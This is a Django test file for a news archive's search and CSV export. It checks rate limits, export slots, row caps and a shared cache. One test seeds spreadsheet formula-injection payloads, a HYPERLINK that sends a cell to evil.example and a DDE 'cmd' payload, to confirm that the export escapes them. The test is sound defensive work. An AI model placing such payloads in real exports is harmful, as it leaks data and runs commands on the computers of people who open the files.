"""The expensive endpoints are bounded: rate limits per client, export slots shared by every
process, a row cap for anonymous exports, and no spreadsheet formula in an export."""

from __future__ import annotations

import csv
import io
import itertools
import threading

import pytest
from django.core.cache import caches
from django.db import connection, connections
from django.test import override_settings

from articles.search import indexer
from articles.throttle import EXPORT_LOCK_KEY
from tests.factories import bulk_articles, make_article, make_staff

pytestmark = pytest.mark.django_db

_addresses = itertools.count(1)


def new_client_ip() -> str:
    """A fresh client address per test, so no test shares another's counters."""
    return f"198.51.100.{next(_addresses)}"


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def advisory_locks() -> int:
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND classid = %s",
            [EXPORT_LOCK_KEY],
        )
        return cursor.fetchone()[0]


@override_settings(RATELIMIT_SEARCH="3/m")
def test_the_search_page_answers_429_with_retry_after_past_its_rate(client):
    ip = new_client_ip()
    for _ in range(3):
        assert client.get("/search/", {"q": "x"}, REMOTE_ADDR=ip).status_code == 200
    response = client.get("/search/", {"q": "x"}, REMOTE_ADDR=ip)
    assert response.status_code == 429
    assert 1 <= int(response["Retry-After"]) <= 60
    html = response.content.decode()
    assert "Too many requests from your address (3 per m)" in html
    assert "<h1>Too many requests</h1>" in html
    # Another reader is not affected, and the search feed counts with the page.
    assert client.get("/search/", {"q": "x"}, REMOTE_ADDR=new_client_ip()).status_code == 200
    assert client.get("/search/feed/", {"q": "x"}, REMOTE_ADDR=ip).status_code == 429


@override_settings(RATELIMIT_API="2/m")
def test_the_search_api_answers_a_json_429_past_its_rate(client):
    ip = new_client_ip()
    for _ in range(2):
        assert client.get("/api/search", {"q": "x"}, REMOTE_ADDR=ip).status_code == 200
    response = client.get("/api/search", {"q": "x"}, REMOTE_ADDR=ip)
    assert response.status_code == 429
    assert response["Content-Type"] == "application/json"
    assert response.json()["error"].startswith("Too many requests from your address")
    assert int(response["Retry-After"]) >= 1


@override_settings(RATELIMIT_EXPORT="2/h")
def test_the_export_answers_429_past_its_rate(client):
    make_article("Harbour news", "harbour")
    ip = new_client_ip()
    for _ in range(2):
        csv_rows(client.get("/search/export.csv", {"q": "harbour"}, REMOTE_ADDR=ip))
    response = client.get("/search/export.csv", {"q": "harbour"}, REMOTE_ADDR=ip)
    assert response.status_code == 429
    assert int(response["Retry-After"]) >= 1
    assert advisory_locks() == 0


@override_settings(RATELIMIT_SEARCH="2/m", CLIENT_IP_HEADER="X-Real-IP")
def test_behind_a_proxy_the_client_is_the_address_the_proxy_names(client):
    proxy = new_client_ip()
    first, second = new_client_ip(), new_client_ip()
    for _ in range(2):
        assert client.get("/search/", REMOTE_ADDR=proxy, HTTP_X_REAL_IP=first).status_code == 200
    assert client.get("/search/", REMOTE_ADDR=proxy, HTTP_X_REAL_IP=first).status_code == 429
    assert client.get("/search/", REMOTE_ADDR=proxy, HTTP_X_REAL_IP=second).status_code == 200
    # A missing or malformed header counts the proxy itself instead of failing.
    assert client.get("/search/", REMOTE_ADDR=proxy, HTTP_X_REAL_IP="bogus").status_code == 200


@override_settings(RATELIMIT_ENABLE=False, RATELIMIT_SEARCH="1/m")
def test_rate_limits_can_be_switched_off(client):
    ip = new_client_ip()
    for _ in range(3):
        assert client.get("/search/", REMOTE_ADDR=ip).status_code == 200


@override_settings(EXPORT_SLOTS=1)
def test_an_export_while_every_slot_is_taken_by_another_process_answers_503(client):
    make_article("Harbour news", "harbour")
    # Another web process, holding the only slot on its own connection.
    other = connections.create_connection("default")
    try:
        with other.cursor() as cursor:
            cursor.execute("SELECT pg_advisory_lock(%s, 0)", [EXPORT_LOCK_KEY])
        response = client.get("/search/export.csv", {"q": "harbour"}, REMOTE_ADDR=new_client_ip())
        assert response.status_code == 503
        assert response["Retry-After"] == "15"
        assert "busy with other exports (at most 1 at once)" in response.content.decode()
        with other.cursor() as cursor:
            cursor.execute("SELECT pg_advisory_unlock(%s, 0)", [EXPORT_LOCK_KEY])
    finally:
        other.close()
    rows = csv_rows(client.get("/search/export.csv", {"q": "harbour"}, REMOTE_ADDR=new_client_ip()))
    assert [r[1] for r in rows[1:]] == ["Harbour news"]


# Committed rows and autocommit, as in a server: the server's close of the response also
# runs Django's end-of-request connection check, which closes a test transaction's connection.
@pytest.mark.django_db(transaction=True)
@override_settings(EXPORT_SLOTS=2)
def test_a_slot_is_held_while_an_export_streams_and_freed_when_the_client_goes_away(client):
    bulk_articles(50, title="Harbour {i}", body="harbour")
    indexer.catch_up(rebuild=True)  # as an import does once its batches are committed
    response = client.get("/search/export.csv", {"q": "harbour"}, REMOTE_ADDR=new_client_ip())
    stream = iter(response.streaming_content)
    next(stream)  # the header: the export is under way
    assert advisory_locks() == 1
    response.close()  # what the server does when the client disconnects
    assert advisory_locks() == 0


@override_settings(EXPORT_MAX_ROWS=3, EXPORT_MAX_ROWS_STAFF=5)
def test_an_anonymous_export_stops_at_its_row_cap_and_a_staff_one_at_the_larger(client):
    bulk_articles(8, title="Harbour {i}", body="harbour")
    response = client.get("/search/export.csv", {"q": "harbour"}, REMOTE_ADDR=new_client_ip())
    assert response["X-Export-Row-Limit"] == "3"
    assert len(csv_rows(response)) == 1 + 3
    client.force_login(make_staff("researcher"))
    response = client.get("/search/export.csv", {"q": "harbour"}, REMOTE_ADDR=new_client_ip())
    assert response["X-Export-Row-Limit"] == "5"
    assert len(csv_rows(response)) == 1 + 5
    assert advisory_locks() == 0


def test_a_bad_export_frees_its_slot(client):
    response = client.get("/search/export.csv", {"to": "31/31/2020"}, REMOTE_ADDR=new_client_ip())
    assert response.status_code == 400
    assert advisory_locks() == 0


def test_no_export_cell_starts_a_spreadsheet_formula(client):
    make_article(
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "harbour",
        source=None,
        tags=["+cmd|' /C calc'!A0", "@SUM(1)"],
        url="https://example.org/=x",
    )
    make_article("-2+3 harbour", "harbour", language="en")
    rows = csv_rows(client.get("/search/export.csv", {"q": "harbour"}, REMOTE_ADDR=new_client_ip()))
    titles = sorted(r[1] for r in rows[1:])
    assert titles == ["'-2+3 harbour", '\'=HYPERLINK("http://evil.example/?x="&A1,"click")']
    tags = [r[5] for r in rows[1:] if r[5]]
    assert tags == ["'+cmd|' /C calc'!A0; @SUM(1)"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.django_db(transaction=True)
def test_the_shared_cache_counts_every_concurrent_increment():
    cache = caches["shared"]
    cache.add("hits", 0, 60)
    threads, per_thread = 8, 25

    def hit() -> None:
        try:
            for _ in range(per_thread):
                cache.incr("hits")
        finally:
            connection.close()

    workers = [threading.Thread(target=hit) for _ in range(threads)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    assert cache.get("hits") == threads * per_thread
    cache.delete("hits")


@pytest.mark.django_db(transaction=True)
def test_the_shared_cache_adds_once_replaces_expired_entries_and_drops_them():
    cache = caches["shared"]
    assert cache.add("k", 1, 60) is True
    assert cache.add("k", 2, 60) is False
    assert cache.get("k") == 1
    assert cache.add("old", 1, -1) is True  # already expired
    assert cache.add("old", 5, 60) is True  # replaced
    assert cache.get("old") == 5
    with pytest.raises(ValueError):
        cache.incr("missing")
    cache.set("pickled", 5, 60)  # stored by Django's own code: counted the slow way
    assert cache.incr("pickled") == 6
    assert cache.incr("k", 10) == 11
    cache.add("gone", 1, -1)
    cache.add("fresh", 1, 60)  # a new entry drops the expired ones
    with connection.cursor() as cursor:
        cursor.execute("SELECT cache_key FROM newsarchive_cache WHERE expires < now()")
        assert cursor.fetchall() == []
    cache.clear()
